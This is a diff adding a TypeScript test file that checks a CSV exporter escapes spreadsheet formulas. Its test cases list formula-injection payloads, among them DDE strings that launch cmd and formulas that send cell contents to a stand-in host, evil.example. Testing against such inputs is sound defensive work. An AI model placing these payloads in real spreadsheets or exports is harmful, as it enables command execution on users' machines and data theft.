@@ -1,0 +1,44 @@
+// What spreadsheets run when a file is opened: none of it gets out of the shop as a formula.
+import { describe, expect, it } from 'vitest'
+import { toCsv } from '@/domain/csv'
+
+const cell = (text: string) =>
+  toCsv([['before', text, 'after']]).slice('\uFEFFbefore,'.length, -',after\r\n'.length)
+
+describe('a formula', () => {
+  it.each([
+    '=1+1',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?"&A1,"Click")',
+    '=WEBSERVICE("https://evil.example")',
+    '=IMPORTXML("https://evil.example","//a")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    ' =1+1',
+    '\u00a0=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '=1+1","=2+2',
+    '="a"\r\n=2+2',
+  ])('%j becomes a text', (text) => {
+    const written = cell(text)
+    const value = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written
+    expect(value).toBe(`'${text}`)
+  })
+
+  it('cannot begin a cell or a row of its own', () => {
+    const file = toCsv([['x",=1+1,"', 'y\r\n=1+1']])
+    expect(file).toBe('\uFEFF"x"",=1+1,""","y\r\n=1+1"\r\n')
+  })
+})
+
+it.each(['Nora', 'a=b', '1-2', 'me@example.com', 'Salma + Ali', ''])('%j stays as it is', (text) => {
+  expect(cell(text)).toBe(text)
+})
